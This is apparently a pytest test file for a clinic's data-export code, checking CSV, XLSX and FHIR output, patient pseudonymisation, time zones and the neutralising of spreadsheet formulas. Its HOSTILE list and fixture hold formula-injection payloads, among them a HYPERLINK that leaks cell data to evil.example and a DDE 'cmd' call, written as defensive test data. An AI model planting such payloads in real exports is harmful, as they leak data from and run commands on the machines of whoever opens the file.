"""Export files, cell by cell, in every format; de-identifying; formula neutralising; FHIR validation."""

import csv
import io
import json
from datetime import date, datetime
from decimal import Decimal

import pytest
from fhir.resources.R4B import get_fhir_model_class
from fhir.resources.R4B.bundle import Bundle
from openpyxl import load_workbook

from alliance.exports import DATASETS, ExportContext
from alliance.exports import render as render_module
from alliance.exports.base import FORMULA_TRIGGERS, Who, neutralise, pseudonym
from alliance.exports.render import render, write_xlsx
from alliance.models import Alert, CheckIn
from alliance.selectors.filters import DataFilters
from alliance.services.checkins import checkin_submit
from sessions.models import CareSession, SessionStatus
from tests.alliance.reports.data import build_quarter, four, pain
from tests.factories import CareSessionFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def quarter(cast):
    return build_quarter(cast)


def dataset(key, filters, *, identified):
    return DATASETS[key](ExportContext(filters=filters, identified=identified))


def export_csv(key, filters, *, identified):
    out = io.BytesIO()
    render(dataset(key, filters, identified=identified), "csv", out)
    return out.getvalue().decode()


def export_xlsx(key, filters, *, identified):
    out = io.BytesIO()
    write_xlsx(dataset(key, filters, identified=identified), out)
    out.seek(0)
    return load_workbook(out)


# --- the expected files, for carol's sessions in the quarter -----------------------------------------


def _people(q, who, identified):
    names = {"frank": ("Frank Foster", "frank@example.org"), "sam": ("Sam Stone", "sam@example.org")}
    patient = q.cast.frank if who == "frank" else q.sam
    if identified:
        return f"{names[who][0]},{names[who][1]},Carol Clarke,carol@example.org"
    return f"{pseudonym(patient.user_id, Who.PATIENT)},{pseudonym(q.cast.carol.user_id, Who.STAFF)}"


def expected_answers(q, identified):
    fj, sf = q.checkins["frank-jan"], q.checkins["sam-feb"]
    header = (
        "response_id,patient_name,patient_email,clinician_name,clinician_email,"
        if identified
        else "response_id,patient_pseudonym,clinician_pseudonym,"
    ) + (
        "session_id,session_starts_at,instrument_key,instrument_version,respondent_role,submitted_at,current,"
        "item_key,value"
    )
    lines = [header]
    for checkin, who, day, alliance, pain_answers in (
        (fj, "frank", "01-15", (5, 5, 5, 5), (4, 4, 4)),
        (sf, "sam", "02-20", (3, 8, 8, 8), (6, 6, 6)),
    ):
        common = f"{_people(q, who, identified)},{checkin.care_session_id},2025-{day} 10:00:00+00"
        for key, value in zip(("relationship", "goals", "approach", "overall"), alliance, strict=True):
            lines.append(
                f"{checkin.alliance_response_id},{common},alliance-checkin,1,patient,"
                f"2025-{day} 08:00:00+00,true,{key},{value}"
            )
        for key, value in zip(("intensity", "enjoyment", "activity"), pain_answers, strict=True):
            lines.append(
                f"{checkin.pain_response_id},{common},pain-check,1,patient,2025-{day} 08:00:00+00,true,{key},{value}"
            )
    return "\n".join(lines) + "\n"


def expected_responses(q, identified):
    fj, sf = q.checkins["frank-jan"], q.checkins["sam-feb"]
    people = (
        "patient_name,patient_email,clinician_name,clinician_email"
        if identified
        else ("patient_pseudonym,clinician_pseudonym")
    )
    header = (
        f"response_id,{people},session_id,session_starts_at,instrument_key,instrument_version,respondent_role,"
        "submitted_at,current,checkin_id,corrects_response_id,total,below_threshold,subscale_bond,subscale_goals,"
        "subscale_intensity,subscale_interference,subscale_overall,subscale_tasks"
    ) + (",checkin_note" if identified else "")
    note = "," if identified else ""
    f, s = _people(q, "frank", identified), _people(q, "sam", identified)
    when_f, when_s = "2025-01-15 10:00:00+00", "2025-02-20 10:00:00+00"
    at_f, at_s = "2025-01-15 08:00:00+00", "2025-02-20 08:00:00+00"
    return (
        "\n".join(
            [
                header,
                f"{fj.alliance_response_id},{f},{fj.care_session_id},{when_f},alliance-checkin,1,patient,{at_f},true,"
                f"{fj.pk},,20.00,true,5.00,5.00,,,5.00,5.00{note}",
                f"{fj.pain_response_id},{f},{fj.care_session_id},{when_f},pain-check,1,patient,{at_f},true,"
                f"{fj.pk},,4.00,,,,4.00,4.00,,{note}",
                f"{sf.alliance_response_id},{s},{sf.care_session_id},{when_s},alliance-checkin,1,patient,{at_s},true,"
                f"{sf.pk},,27.00,true,3.00,8.00,,,8.00,8.00{note}",
                f"{sf.pain_response_id},{s},{sf.care_session_id},{when_s},pain-check,1,patient,{at_s},true,"
                f"{sf.pk},,6.00,,,,6.00,6.00,,{note}",
            ]
        )
        + "\n"
    )


def expected_alerts(q, identified):
    a = q.alerts
    fj, sf = q.checkins["frank-jan"], q.checkins["sam-feb"]
    carol = "Carol Clarke" if identified else pseudonym(q.cast.carol.user_id, Who.STAFF)
    if identified:
        header = (
            "alert_id,patient_name,patient_email,clinician_name,clinician_email,session_id,response_id,"
            "instrument_key,kind,detail,raised_at,status,acknowledged_at,acknowledged_by_name,hours_to_acknowledge,"
            "acknowledge_note,resolved_at,resolved_by_name,resolve_note"
        )
        rows = [
            f"{a['frank-low'].pk},{_people(q, 'frank', True)},{fj.care_session_id},{fj.alliance_response_id},"
            f'alliance-checkin,low_total,"The patient\'s alliance check-in total is 20, below 28.",'
            f"2025-01-15 08:00:00+00,acknowledged,2025-01-15 12:00:00+00,{carol},4.00,Seen,,,",
            f"{a['sam-low'].pk},{_people(q, 'sam', True)},{sf.care_session_id},{sf.alliance_response_id},"
            f'alliance-checkin,low_total,"The patient\'s alliance check-in total is 27, below 28.",'
            f"2025-02-20 08:00:00+00,acknowledged,2025-02-20 18:00:00+00,{carol},10.00,Seen,,,",
            f"{a['sam-item'].pk},{_people(q, 'sam', True)},{sf.care_session_id},{sf.alliance_response_id},"
            "alliance-checkin,low_item,The patient's answers at or below 4: Feeling listened to 3,"
            "2025-02-20 08:00:00+00,open,,,,,,,",
        ]
    else:
        header = (
            "alert_id,patient_pseudonym,clinician_pseudonym,session_id,response_id,instrument_key,kind,raised_at,"
            "status,acknowledged_at,acknowledged_by_pseudonym,hours_to_acknowledge,resolved_at,resolved_by_pseudonym"
        )
        rows = [
            f"{a['frank-low'].pk},{_people(q, 'frank', False)},{fj.care_session_id},{fj.alliance_response_id},"
            f"alliance-checkin,low_total,2025-01-15 08:00:00+00,acknowledged,2025-01-15 12:00:00+00,{carol},"
            "4.00,,",
            f"{a['sam-low'].pk},{_people(q, 'sam', False)},{sf.care_session_id},{sf.alliance_response_id},"
            f"alliance-checkin,low_total,2025-02-20 08:00:00+00,acknowledged,2025-02-20 18:00:00+00,{carol},"
            "10.00,,",
            f"{a['sam-item'].pk},{_people(q, 'sam', False)},{sf.care_session_id},{sf.alliance_response_id},"
            "alliance-checkin,low_item,2025-02-20 08:00:00+00,open,,,,,",
        ]
    return "\n".join([header, *rows]) + "\n"


def expected_sessions(q, identified):
    s, c = q.sessions, q.checkins
    people = (
        "patient_name,patient_email,clinician_name,clinician_email"
        if identified
        else ("patient_pseudonym,clinician_pseudonym")
    )
    header = (
        f"session_id,{people},starts_at,duration_minutes,mode,status,"
        + ("cancelled_reason," if identified else "")
        + (
            "checked_in,checkin_id,checkin_submitted_at,alliance_total,pain_total,clinician_rated,clinician_total,"
            "alerts_raised"
        )
    )
    reason = "," if identified else ""
    f, sam = _people(q, "frank", identified), _people(q, "sam", identified)
    return (
        "\n".join(
            [
                header,
                f"{s['frank-jan'].pk},{f},2025-01-15 10:00:00+00,45,in_person,done,{reason}true,{c['frank-jan'].pk},"
                "2025-01-15 08:00:00+00,20.00,4.00,false,,1",
                f"{s['frank-feb'].pk},{f},2025-02-15 10:00:00+00,45,in_person,done,{reason}false,,,,,false,,0",
                f"{s['sam-feb'].pk},{sam},2025-02-20 10:00:00+00,45,in_person,done,{reason}true,{c['sam-feb'].pk},"
                "2025-02-20 08:00:00+00,27.00,6.00,false,,2",
                f"{s['frank-mar'].pk},{f},2025-03-15 10:00:00+00,45,in_person,cancelled,"
                + ('"Clinic closed, snow",' if identified else "")
                + "false,,,,,false,,0",
            ]
        )
        + "\n"
    )


def expected_goals(q, identified):
    """The whole clinic: alice's goal with its two ratings in the quarter, and frank's suggested one."""
    alice, frank = q.goals["alice"].pk, q.goals["frank"].pk
    first, second = (rating.pk for rating in q.ratings[:2])
    if identified:
        header = (
            "goal_id,patient_name,patient_email,goal_text,why_it_matters,proposed_by,created_at,agreed_at,status,"
            "status_changed_at,withdrawn,scale,rating_id,rated_at,rating,rated_by,rated_by_name,rating_note"
        )
        a = (
            f"{alice},Alice Archer,alice@example.org,Walk to the shops without stopping,So I can see my friends,"
            "patient,2025-01-05 10:00:00+00,2025-01-05 10:00:00+00,active,,false,zero_ten"
        )
        rows = [
            f"{a},{first},2025-01-12 10:00:00+00,3,patient,Alice Archer,Got halfway",
            f"{a},{second},2025-03-01 10:00:00+00,6,clinician,Bob Baker,",
            f"{frank},Frank Foster,frank@example.org,Sleep through the night,,clinician,2025-02-01 10:00:00+00,,"
            "proposed,,false,gas,,,,,,",
        ]
    else:
        header = (
            "goal_id,patient_pseudonym,proposed_by,created_at,agreed_at,status,status_changed_at,withdrawn,scale,"
            "rating_id,rated_at,rating,rated_by"
        )
        a = (
            f"{alice},{pseudonym(q.cast.alice.user_id, Who.PATIENT)},patient,2025-01-05 10:00:00+00,"
            "2025-01-05 10:00:00+00,active,,false,zero_ten"
        )
        rows = [
            f"{a},{first},2025-01-12 10:00:00+00,3,patient",
            f"{a},{second},2025-03-01 10:00:00+00,6,clinician",
            f"{frank},{pseudonym(q.cast.frank.user_id, Who.PATIENT)},clinician,2025-02-01 10:00:00+00,,proposed,,"
            "false,gas,,,,",
        ]
    return "\n".join([header, *rows]) + "\n"


EXPECTED = {
    "checkin_answers": expected_answers,
    "checkin_responses": expected_responses,
    "alerts": expected_alerts,
    "sessions": expected_sessions,
    "goals": expected_goals,
}


def expected_filters(q, key):
    """Carol's sessions for most datasets; the whole clinic for goals."""
    return q.filters() if key == "goals" else q.filters(clinician=q.cast.carol)


@pytest.mark.parametrize("identified", [True, False], ids=["identified", "deidentified"])
@pytest.mark.parametrize("key", list(EXPECTED))
def test_csv_cell_by_cell(quarter, key, identified):
    """Headers, people or their pseudonyms, times with their offset, decimals to two places, yes/no."""
    got = export_csv(key, expected_filters(quarter, key), identified=identified)
    assert got == EXPECTED[key](quarter, identified)


@pytest.mark.parametrize("identified", [True, False], ids=["identified", "deidentified"])
@pytest.mark.parametrize("key", list(EXPECTED))
def test_csv_of_the_whole_clinic_has_a_row_for_each_row_of_the_dataset(quarter, key, identified):
    filters = quarter.filters()
    export = dataset(key, filters, identified=identified)
    rows = list(csv.reader(io.StringIO(export_csv(key, filters, identified=identified), newline="")))
    assert rows[0] == export.header()
    assert len(rows) - 1 == export.count() > 0
    assert all(len(row) == len(rows[0]) for row in rows)


def _cell_as_csv(value, tz):
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


@pytest.mark.parametrize("identified", [True, False], ids=["identified", "deidentified"])
@pytest.mark.parametrize("key", list(EXPECTED))
def test_xlsx_cell_by_cell(quarter, key, identified):
    filters = expected_filters(quarter, key)
    workbook = export_xlsx(key, filters, identified=identified)
    data = workbook.worksheets[0]
    expected = list(csv.reader(io.StringIO(EXPECTED[key](quarter, identified))))
    rows = list(data.iter_rows(values_only=True))
    assert len(rows) == len(expected)
    assert list(rows[0]) == expected[0]
    for got_row, want_row in zip(rows[1:], expected[1:], strict=True):
        for header, got, want in zip(expected[0], got_row, want_row, strict=True):
            if want and header.endswith(("_at",)):
                # Spreadsheets have no time zones: the clinic's wall-clock time.
                assert got == datetime.fromisoformat(want).astimezone(filters.tz).replace(tzinfo=None), header
                continue
            if want in ("true", "false"):
                assert isinstance(got, bool), header
            elif want and (
                header in ("total", "value", "hours_to_acknowledge", "alliance_total", "pain_total", "rating")
                or header.startswith("subscale_")
            ):
                assert isinstance(got, int | float), header
                assert Decimal(str(got)) == Decimal(want), header
                continue
            assert _cell_as_csv(got, filters.tz) == want, header
    about = workbook["About this export"]
    text = "\n".join(" ".join(str(v) for v in row if v is not None) for row in about.iter_rows(values_only=True))
    assert "Clinic Riverside Pain Service" in text
    assert ("Clinician All clinicians" if key == "goals" else "Clinician Carol Clarke") in text
    assert f"Rows {len(expected) - 1}" in text
    assert ("Identified" if identified else "De-identified") in text


def test_xlsx_shows_clinic_local_time_in_summer(cast):
    when = datetime.fromisoformat("2025-07-01 09:00:00+00")
    session = CareSessionFactory(patient=cast.alice, clinician=cast.bob, starts_at=when, status=SessionStatus.DONE)
    filters = DataFilters(clinic=cast.riverside, date_from=when.date(), date_to=when.date())
    sheet = export_xlsx("sessions", filters, identified=False).worksheets[0]
    assert sheet.cell(row=2, column=1).value == session.pk
    assert sheet.cell(row=2, column=4).value == datetime(2025, 7, 1, 10, 0)  # 10:00 BST
    text = export_csv("sessions", filters, identified=False)
    assert "2025-07-01 10:00:00+01" in text


def test_a_full_sheet_continues_on_a_new_one(quarter, monkeypatch):
    monkeypatch.setattr(render_module, "XLSX_MAX_ROWS", 5)
    workbook = export_xlsx("checkin_answers", quarter.filters(clinician=quarter.cast.carol), identified=False)
    first, second, third, _ = workbook.worksheets
    assert [sheet.title for sheet in workbook.worksheets] == [
        "Check-in answers",
        "Check-in answers (2)",
        "Check-in answers (3)",
        "About this export",
    ]
    # 14 rows: 5, 5 and 4, each sheet with its own header.
    assert (first.max_row, second.max_row, third.max_row) == (6, 6, 5)
    assert [c.value for c in third[1]] == [c.value for c in first[1]]


def test_filters_narrow_each_dataset(quarter):
    cast = quarter.cast
    alliance_checkin = quarter.correction.instrument

    def rows(key, **filters):
        return list(csv.DictReader(io.StringIO(export_csv(key, quarter.filters(**filters), identified=False))))

    everything = rows("checkin_responses")
    # 8 alliance check-ins, priya's superseded original, bob's rating, and 8 pain checks.
    assert len(everything) == 18
    assert sum(row["current"] == "false" for row in everything) == 1
    assert len(rows("checkin_responses", instrument=alliance_checkin)) == 9
    # alice 3 + 3, priya 3 (the original, its correction, March) + 2, and bob's own rating.
    assert len(rows("checkin_responses", clinician=cast.bob)) == 12
    assert {row["respondent_role"] for row in rows("checkin_responses", clinician=cast.bob)} == {
        "patient",
        "clinician",
    }
    assert len(rows("sessions", date_from=date(2025, 3, 1))) == 3  # alice, frank (cancelled), priya; not April
    assert len(rows("alerts")) == 7
    assert len(rows("alerts", clinician=cast.bob)) == 4
    # sam's check-in at 23:30 UTC on 31 March is 1 April in London: after the range.
    assert not [r for r in rows("checkin_answers") if r["submitted_at"].startswith("2025-04-01")]


def test_deidentified_files_hold_no_names_emails_or_free_text(quarter):
    filters = quarter.filters()
    banned = [
        "Alice",
        "Frank",
        "Priya",
        "Sam Stone",
        "Bob",
        "Carol",
        "@example.org",
        "sleep",
        "snow",
        "Seen",
        "We talked",
        "The patient's",
    ]
    for key in EXPECTED:
        text = export_csv(key, filters, identified=False)
        for word in banned:
            assert word not in text, f"{word!r} in the de-identified {key}"
        sheet = export_xlsx(key, filters, identified=False).worksheets[0]
        cells = " ".join(str(v) for row in sheet.iter_rows(values_only=True) for v in row if v is not None)
        for word in banned:
            assert word not in cells, f"{word!r} in the de-identified {key} workbook"
    identified = export_csv("checkin_responses", filters, identified=True)
    assert "Can we talk about sleep?" in identified


def test_pseudonyms_are_stable_keyed_and_distinct(quarter, settings):
    cast = quarter.cast
    filters = quarter.filters()
    first = export_csv("sessions", filters, identified=False)
    again = export_csv("sessions", filters, identified=False)
    assert first == again
    alice = pseudonym(cast.alice.user_id, Who.PATIENT)
    assert alice in first and alice.startswith("P-") and len(alice) == 18
    assert pseudonym(cast.frank.user_id, Who.PATIENT) != alice
    assert pseudonym(cast.alice.user_id, Who.STAFF) != alice
    settings.PSEUDONYM_KEY = "a-different-key"
    assert alice not in export_csv("sessions", filters, identified=False)


# --- formula neutralising ------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'already quoted",
    'a, "quoted"\nand a new line',
    "a lone\rcarriage return",
    "bell\x07 and escape\x1b",
    "emoji 🙂 and עברית",
    "plain words",
    " =space first",
]


def test_neutralise_prefixes_only_what_a_spreadsheet_would_run():
    for text in HOSTILE:
        expected = "'" + text if text[0] in FORMULA_TRIGGERS else text
        assert neutralise(text) == expected
    assert neutralise("") == ""
    assert set(FORMULA_TRIGGERS) >= {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture
def hostile(cast):
    """A patient, a clinician, notes and a cancellation reason written to attack a spreadsheet."""
    cast.alice.user.full_name = '=HYPERLINK("http://evil.example","Alice")'
    cast.alice.user.save(update_fields=["full_name"])
    cast.bob.user.full_name = "@Bob"
    cast.bob.user.save(update_fields=["full_name"])
    sessions = []
    for index, text in enumerate(HOSTILE):
        when = datetime.fromisoformat(f"2025-01-{index + 1:02d}T10:00:00+00:00")
        session = CareSessionFactory(
            patient=cast.alice,
            clinician=cast.bob,
            starts_at=when,
            status=SessionStatus.CANCELLED,
            cancelled_reason=text,
        )
        sessions.append(session)
        checkin_submit(
            patient=cast.alice,
            care_session=None,
            alliance_answers=four(2),
            pain_answers=pain(5),
            note=text,
            submitted_at=when,
        )
    Alert.objects.filter(patient=cast.alice).update(
        acknowledged_at=datetime.fromisoformat("2025-02-01 10:00:00+00"),
        acknowledged_by=cast.bob.user,
        acknowledge_note=HOSTILE[1],
    )
    return DataFilters(clinic=cast.riverside, date_from=date(2025, 1, 1), date_to=date(2025, 1, 31))


def _text_cells_are_safe(cells):
    checked = 0
    for cell in cells:
        if isinstance(cell, str) and cell:
            assert cell[0] not in FORMULA_TRIGGERS, repr(cell)
            checked += 1
    return checked


@pytest.mark.parametrize("key", ["checkin_responses", "sessions", "alerts"])
def test_no_csv_cell_can_start_a_formula(hostile, key):
    text = export_csv(key, hostile, identified=True)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert _text_cells_are_safe(cell for row in rows for cell in row) > 0
    written = {cell for row in rows for cell in row}
    stored = {
        "checkin_responses": CheckIn.objects.values_list("note", flat=True),  # notes are stripped when saved
        "sessions": CareSession.objects.values_list("cancelled_reason", flat=True),
        "alerts": [HOSTILE[1]],
    }[key]
    for text_in in stored:
        assert neutralise(text_in) in written, repr(text_in)
    assert '\'=HYPERLINK("http://evil.example","Alice")' in written
    if key != "checkin_responses":  # those check-ins were not for an appointment, so name no clinician
        assert "'@Bob" in written


@pytest.mark.parametrize("key", ["checkin_responses", "sessions", "alerts"])
def test_no_xlsx_cell_is_a_formula(hostile, key):
    out = io.BytesIO()
    write_xlsx(dataset(key, hostile, identified=True), out)
    out.seek(0)
    workbook = load_workbook(out)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
    values = [c for row in workbook.worksheets[0].iter_rows(values_only=True) for c in row]
    assert _text_cells_are_safe(values) > 0
    if key == "sessions":
        assert "bell\ufffd and escape\ufffd" in values  # XML cannot hold those control characters


# --- FHIR --------------------------------------------------------------------------------------------------


def fhir_bundle(filters, *, identified, key="checkin_responses"):
    out = io.BytesIO()
    count = render(dataset(key, filters, identified=identified), "fhir", out)
    data = json.loads(out.getvalue())
    Bundle.model_validate(data)
    for entry in data["entry"]:
        get_fhir_model_class(entry["resource"]["resourceType"]).model_validate(entry["resource"])
    return count, data


@pytest.mark.parametrize("identified", [True, False], ids=["identified", "deidentified"])
def test_fhir_bundle_for_carols_sessions(quarter, identified, settings):
    settings.SITE_URL = "https://alliance.example.org"
    count, bundle = fhir_bundle(quarter.filters(clinician=quarter.cast.carol), identified=identified)
    assert count == 4
    assert bundle["resourceType"] == "Bundle" and bundle["type"] == "collection"
    by_type = {}
    for entry in bundle["entry"]:
        assert entry["fullUrl"].startswith("urn:uuid:")
        by_type.setdefault(entry["resource"]["resourceType"], []).append(entry["resource"])
    assert sorted(by_type) == ["Observation", "Patient", "Questionnaire", "QuestionnaireResponse"]
    assert [(q["id"], q["url"], q["version"]) for q in by_type["Questionnaire"]] == [
        ("alliance-checkin-v1", "https://alliance.example.org/fhir/Questionnaire/alliance-checkin", "1"),
        ("pain-check-v1", "https://alliance.example.org/fhir/Questionnaire/pain-check", "1"),
    ]
    items = by_type["Questionnaire"][0]["item"]
    assert items[0]["linkId"] == "relationship" and items[0]["type"] == "integer"
    assert items[0]["text"] == "Do you feel listened to, as an equal partner?"
    fj = quarter.checkins["frank-jan"]
    qr = next(r for r in by_type["QuestionnaireResponse"] if r["id"] == str(fj.alliance_response_id))
    assert qr["status"] == "completed"
    assert qr["questionnaire"] == "https://alliance.example.org/fhir/Questionnaire/alliance-checkin|1"
    assert qr["authored"] == "2025-01-15T08:00:00Z"
    assert qr["item"] == [
        {"linkId": key, "answer": [{"valueInteger": 5}]} for key in ("relationship", "goals", "approach", "overall")
    ]
    assert qr["encounter"]["identifier"]["value"] == str(fj.care_session_id)
    scores = {
        o["code"]["coding"][0]["code"]: o
        for o in by_type["Observation"]
        if o["derivedFrom"][0]["reference"] == next(e["fullUrl"] for e in bundle["entry"] if e["resource"] is qr)
    }
    assert sorted(scores) == [
        "alliance-checkin.bond",
        "alliance-checkin.goals",
        "alliance-checkin.overall",
        "alliance-checkin.tasks",
        "alliance-checkin.total",
    ]
    total = scores["alliance-checkin.total"]
    assert total["valueQuantity"]["value"] == 20 and total["status"] == "final"
    assert total["effectiveDateTime"] == "2025-01-15T08:00:00Z"
    assert total["subject"] == qr["subject"]
    assert len(by_type["Patient"]) == 2
    patients = json.dumps(by_type["Patient"])
    if identified:
        assert "Frank Foster" in patients and "frank@example.org" in patients
    else:
        assert "Frank" not in json.dumps(bundle) and "@example.org" not in json.dumps(bundle)
        assert pseudonym(quarter.cast.frank.user_id, Who.PATIENT) in patients


def test_fhir_holds_corrections_as_amended_and_leaves_out_what_they_replaced(quarter):
    count, bundle = fhir_bundle(quarter.filters(clinician=quarter.cast.bob), identified=False)
    responses = {
        e["resource"]["id"]: e["resource"]
        for e in bundle["entry"]
        if e["resource"]["resourceType"] == "QuestionnaireResponse"
    }
    assert str(quarter.corrected.pk) not in responses
    assert responses[str(quarter.correction.pk)]["status"] == "amended"
    practitioners = [e for e in bundle["entry"] if e["resource"]["resourceType"] == "Practitioner"]
    assert len(practitioners) == 1  # bob, who rated alice's January session
    # alice 3 + 3, priya 2 (the correction, not the original) + 2, and bob's own rating.
    assert count == len(responses) == 11


@pytest.mark.parametrize("identified", [True, False], ids=["identified", "deidentified"])
def test_fhir_bundle_of_goals_with_their_progress(quarter, identified):
    count, bundle = fhir_bundle(quarter.filters(), identified=identified, key="goals")
    assert count == 2
    goals = {e["resource"]["id"]: e for e in bundle["entry"] if e["resource"]["resourceType"] == "Goal"}
    alice = goals[str(quarter.goals["alice"].pk)]["resource"]
    frank = goals[str(quarter.goals["frank"].pk)]["resource"]
    assert (alice["lifecycleStatus"], frank["lifecycleStatus"]) == ("active", "proposed")
    assert alice["startDate"] == "2025-01-05"
    ratings = [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Observation"]
    assert [(r["valueInteger"], r["effectiveDateTime"]) for r in ratings] == [
        (3, "2025-01-12T10:00:00Z"),
        (6, "2025-03-01T10:00:00Z"),
    ]
    assert all(r["focus"] == [{"reference": goals[str(quarter.goals["alice"].pk)]["fullUrl"]}] for r in ratings)
    assert alice["outcomeReference"] == [
        {"reference": e["fullUrl"]} for e in bundle["entry"] if e["resource"]["resourceType"] == "Observation"
    ]
    text = json.dumps(bundle)
    if identified:
        assert alice["description"]["text"] == "Walk to the shops without stopping"
        assert alice["note"] == [{"text": "So I can see my friends"}]
        assert ratings[0]["note"] == [{"text": "Got halfway"}]
        assert frank["expressedBy"]["reference"] in {
            e["fullUrl"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Practitioner"
        }
    else:
        for words in ("Walk to the shops", "friends", "halfway", "Sleep", "Alice", "Carol", "@example.org"):
            assert words not in text


def test_fhir_is_offered_for_check_ins_and_goals_only(quarter):
    with pytest.raises(ValueError):
        render(dataset("alerts", quarter.filters(), identified=False), "fhir", io.BytesIO())


def test_an_export_of_nothing_is_a_header_or_an_empty_bundle(cast):
    filters = DataFilters(clinic=cast.riverside, date_from=date(2001, 1, 1), date_to=date(2001, 1, 2))
    for key in EXPECTED:
        assert export_csv(key, filters, identified=False).count("\n") == 1
    count, bundle = fhir_bundle(filters, identified=False)
    assert count == 0 and bundle["entry"] == []


def test_another_clinics_admin_cannot_reach_riverside_rows(quarter):
    northgate = DataFilters(clinic=quarter.cast.northgate, date_from=date(2025, 1, 1), date_to=date(2025, 3, 31))
    text = export_csv("sessions", northgate, identified=True)
    assert "Grace Green" in text and "Frank" not in text and "Alice" not in text


@pytest.mark.parametrize("zone", ["Asia/Kolkata", "America/St_Johns", "Pacific/Chatham", "UTC"])
def test_times_are_written_in_the_clinics_time_zone_with_its_offset(cast, zone):
    """To the second (never rounded up), with the offset's minutes when it has them (+05:30, -02:30, +13:45)."""
    cast.riverside.timezone = zone
    cast.riverside.save(update_fields=["timezone"])
    for month in (1, 7):
        CareSessionFactory(
            patient=cast.alice,
            clinician=cast.bob,
            starts_at=datetime.fromisoformat(f"2025-{month:02d}-01T09:30:00.999+00:00"),
        )
    filters = DataFilters(clinic=cast.riverside, date_from=date(2024, 12, 1), date_to=date(2025, 12, 31))
    rows = list(csv.DictReader(io.StringIO(export_csv("sessions", filters, identified=False))))
    expected = {
        "Asia/Kolkata": ["2025-01-01 15:00:00+05:30", "2025-07-01 15:00:00+05:30"],
        "America/St_Johns": ["2025-01-01 06:00:00-03:30", "2025-07-01 07:00:00-02:30"],
        "Pacific/Chatham": ["2025-01-01 23:15:00+13:45", "2025-07-01 22:15:00+12:45"],
        "UTC": ["2025-01-01 09:30:00+00", "2025-07-01 09:30:00+00"],
    }[zone]
    assert [row["starts_at"] for row in rows] == expected
